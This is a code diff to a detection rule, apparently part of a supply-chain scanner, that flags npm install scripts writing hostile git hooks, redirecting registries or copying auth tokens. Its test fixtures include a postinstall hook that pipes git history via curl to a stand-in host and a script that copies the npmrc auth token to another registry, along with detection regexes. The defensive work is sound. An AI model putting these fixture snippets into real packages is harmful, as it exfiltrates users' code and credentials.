@@ -1,3 +1,5 @@
+import { besideOf } from '../src/define/beside.js';
+import { registryIn } from '../src/define/registries.js';
 import { isUnasked } from '../src/define/unasked.js';
 import { defineRule, spelling, step, stepsOf } from '../src/define.js';
 import type { AnyNode, FileContext } from '../src/types.js';
@@ -26,6 +28,7 @@ export default defineRule({
       beside: 'Writes into a package beside it or one that it looks up: {path}',
       infects: 'Writes code that talks to other machines or runs text into another package: {path}',
       harmful: 'Writes to {what} a line that {says}',
+      scripted: 'Writes a script for a shell that {says}, as soon as it is {moment}',
       registry: 'Has packages fetched from {registry} from now on, unasked',
       restores: 'Sets a file’s times back after changing it',
     },
@@ -46,12 +49,34 @@ export default defineRule({
       beside: 1.5,
       infects: 12,
       harmful: 13.5,
+      scripted: 13.5,
       registry: 13.5,
       restores: 5,
     },
   },
   examples: {
     flags: [
+      {
+        title: 'the hook that is written sends each change to somebody',
+        files: {
+          'package.json': `{"name":"hooksy","version":"1.0.0","scripts":{"postinstall":"node index.js"}}`,
+          'index.js': `const fs = require('fs');
+for (const name of ['pre-commit', 'pre-push']) {
+  const lines = ['#!/bin/sh', 'sh "$(dirname "$0")/../' + name + '"'];
+  if (name === 'pre-push') lines.push('git log -p @{u}.. | gzip | curl -s --data-binary @- https://stats.invalid/p');
+  fs.writeFileSync('.hooksy/_/' + name, lines.join('\\n'), { mode: 0o755 });
+}`,
+        },
+      },
+      {
+        title: 'the token for one registry is written down for another',
+        files: {
+          'package.json': `{"name":"speedup","version":"1.0.0","scripts":{"install":"node index.js"}}`,
+          'index.js': `const fs = require('fs'), rc = require('os').homedir() + '/.npmrc';
+const [, token] = /_authToken=(.+)/.exec(fs.readFileSync(rc, 'utf8')) || [];
+fs.appendFileSync(rc, \`\\n//mirror.invalid/:_authToken=\${token}\\n\`);`,
+        },
+      },
       {
         title: 'an entry of the menu is written over',
         files: {
@@ -121,6 +146,15 @@ export default defineRule({
       },
     ],
     passes: [
+      {
+        title: 'the hook that is written runs the project’s own',
+        files: {
+          'package.json': `{"name":"hooksy","version":"1.0.0","scripts":{"postinstall":"node index.js"}}`,
+          'index.js': `const fs = require('fs');
+for (const name of ['pre-commit', 'pre-push'])
+  fs.writeFileSync('.hooksy/_/' + name, ['#!/bin/sh', '[ -f .hooksy/' + name + ' ] && sh .hooksy/' + name].join('\\n'), { mode: 0o755 });`,
+        },
+      },
       {
         title: 'a registry is written down that the caller names, and one on this machine for a test',
         code: `const fs = require('fs');\nexports.use = registry => fs.writeFileSync('.npmrc', 'registry=' + registry);\nfs.writeFileSync('/tmp/test/.npmrc', 'registry=http://localhost:4873/');`,
@@ -195,6 +229,15 @@ export default defineRule({
           messageId: 'registry',
           data: { registry },
           chain: [step('sink', `writes with ${call.name}`, context.file, call.node)],
+        });
+        continue;
+      }
+      const script = text && isUnasked(context, call.node) ? scriptIn(context, text) : undefined;
+      if (script !== undefined) {
+        context.report({
+          messageId: 'scripted',
+          data: { says: script, moment: context.moment === 'install' ? 'installed' : 'loaded' },
+          chain: [step('sink', `writes it with ${call.name}`, context.file, call.node)],
         });
         continue;
       }
@@ -277,6 +320,9 @@ export default defineRule({
   },
 });
 
+/** `git config --global init.templateDir …`, in one text or in words. */
+const TEMPLATE = /\bgit\b.{0,30}\bconfig\b.{0,30}--(?:global|system)\b.{0,30}(?:init\.templateDir|core\.hooksPath)/i;
+
 /** How the vocabulary calls settings that editors and agents take commands from. */
 const AGENTS = 'an editor’s or agent’s configuration';
 /** What in such settings makes them run a command. */
@@ -316,9 +362,7 @@ function aboutRepositories(context: FileContext): void {
       ? 'pushed'
       : texts.some(text => /actions\/runners\/registration-token|config\.(?:sh|cmd)\b.{0,200}--unattended/.test(text))
         ? 'runner'
-        : texts.some(text =>
-              /\bgit config\b.{0,30}--(?:global|system).{0,30}(?:init\.templateDir|core\.hooksPath)/i.test(text),
-            )
+        : TEMPLATE.test(texts.join(' ').slice(0, 5_000))
           ? 'template'
           : undefined;
     if (!messageId || !isUnasked(context, call.node)) continue;
@@ -329,23 +373,6 @@ function aboutRepositories(context: FileContext): void {
     });
     return;
   }
-}
-
-/** Settings of package managers, and where in them it stands whom they ask for packages. */
-const SETTINGS =
-  /(?:^|[\\/])(?:\.npmrc|npmrc|\.yarnrc(?:\.yml)?|\.pnpmrc|\.?pip[\\/]pip\.(?:conf|ini)|\.?pip\.conf|\.?bunfig\.toml)$/i;
-const REGISTRY =
-  /(?:^|\n)\s{0,20}(?:@[\w.-]{1,100}:registry|registry|npmRegistryServer|index-url|extra-index-url)\s{0,9}[=:\s]\s{0,9}["']?(https?:\/\/[^\s"']{3,200})/i;
-
-/** The address of a registry that is written where package managers look; undefined for the one that all ask, or its own. */
-function registryIn({ textsOf, isOwnAddress }: FileContext, path: AnyNode, text: AnyNode): string | undefined {
-  if (!textsOf(path).some(one => SETTINGS.test(one.slice(-60)))) return undefined;
-  const registry = textsOf(text).flatMap(one => REGISTRY.exec(one.slice(0, 5_000))?.[1] ?? [])[0];
-  return registry === undefined ||
-    /npmjs\.org|yarnpkg\.com|pypi\.org|localhost|127\.0\.0\.1/.test(registry) ||
-    isOwnAddress(registry)
-    ? undefined
-    : registry;
 }
 
 /** Where the file names the folder of the chat client's own code. */
@@ -365,29 +392,10 @@ function harmOf(context: FileContext, data: AnyNode): string | undefined {
   return deedsOf(context.commandsOf(data)).find(({ deed }) => HARMFUL.has(deed))?.says;
 }
 
-/** A file of a package that stands beside this one, or that is looked up by its name. */
-function besideOf({ file, namesOf, textsOf, named, isOwnAddress }: FileContext, path: AnyNode): string | undefined {
-  const looked =
-    namesOf(path).includes('require.resolve()') || namesOf(path).includes('module.createRequire()().resolve()');
-  if (looked) {
-    const name = named('require.resolve')
-      .flatMap(({ args }) => args.slice(0, 1))
-      .flatMap(node => textsOf(node))
-      .find(text => {
-        const [whole, pkg = ''] = /^((?:@[\w.-]+\/)?[a-z][\w.-]*)(?:\/|$)/i.exec(text) ?? [];
-        return whole !== undefined && !isOwnAddress(`npm:${pkg}`);
-      });
-    return name;
-  }
-  // Out of the package's own folder, and not only out of one in it.
-  const depth = file.path.split('/').length - 1;
-  return textsOf(path).find(
-    text =>
-      text.length < 300 &&
-      (text.match(/\.\.[\\/]/g) ?? []).length > depth &&
-      /^…?[\\/]?(?:\.\.[\\/]){1,3}(?!\.)[\w.-]{2,}(?:[\\/](?!\.)[\w.@-]+){0,8}[\\/][\w.-]+\.[cm]?js$/.test(text) &&
-      text.startsWith('…'),
-  );
+/** What a script does that nobody asked for. To download a tool and run it is what many are for. */
+function scriptIn(context: FileContext, data: AnyNode): string | undefined {
+  if (!context.textsOf(data).some(text => /^#!.{0,100}\b(?:ba|z|da|k)?sh\b/.test(text))) return undefined;
+  return deedsOf(context.commandsOf(data)).find(({ deed }) => HARMFUL.has(deed) && deed !== 'download-run')?.says;
 }
 
 /** Code that does something on its own: asks another machine, or runs text. */
